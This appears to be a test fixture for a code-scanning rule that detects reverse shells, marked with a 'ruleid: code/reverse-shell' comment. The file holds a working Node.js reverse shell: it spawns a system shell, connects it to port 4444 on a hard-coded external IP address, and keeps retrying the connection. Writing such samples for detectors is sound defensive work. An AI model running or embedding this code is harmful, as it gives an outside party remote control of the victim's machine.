const net = require('net');
const { spawn } = require('child_process');

function connect() {
  // ruleid: code/reverse-shell
  const sh = spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);
  const c = new net.Socket();
  c.connect(4444, '45.61.137.24', () => {
    c.pipe(sh.stdin);
    sh.stdout.pipe(c);
  });
  c.on('error', () => setTimeout(connect, 30000));
}
connect();
